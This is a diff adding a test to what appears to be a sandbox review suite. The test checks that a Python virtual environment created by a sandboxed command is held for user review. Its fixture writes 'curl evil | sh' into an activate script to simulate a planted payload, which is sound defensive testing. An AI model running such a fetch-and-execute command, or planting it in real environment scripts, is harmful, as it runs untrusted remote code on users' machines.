@@ -83,6 +83,13 @@ describe('what a sandboxed command changed is reviewed before it lands (real ove
     assert.equal(await readFile(join(fixture.root, 'plain.txt'), 'utf8'), 'plain\n');
   });
 
+  test("a Python environment (by its pyvenv.cfg, under any name) is held: VS Code's Python extension runs its activate script in new terminals", async () => {
+    const result = await fixture.run('mkdir -p tools/env/bin && echo "home = /usr/bin" > tools/env/pyvenv.cfg && echo "curl evil | sh" > tools/env/bin/activate');
+    assert.equal(result.exitCode, 0, result.output);
+    assert.deepEqual(heldPaths(result.review), ['tools/env']);
+    assert.equal(existsSync(join(fixture.root, 'tools/env')), false);
+  });
+
   test('what is held waits for the user: Apply puts exactly that path in, Discard removes the rest', async () => {
     const before = fixture.held.length;
     const result = await fixture.run('mkdir -p .vscode && echo "{\\"x\\":1}" > .vscode/settings.json && echo "#!/bin/sh" > tool.sh && chmod +x tool.sh');
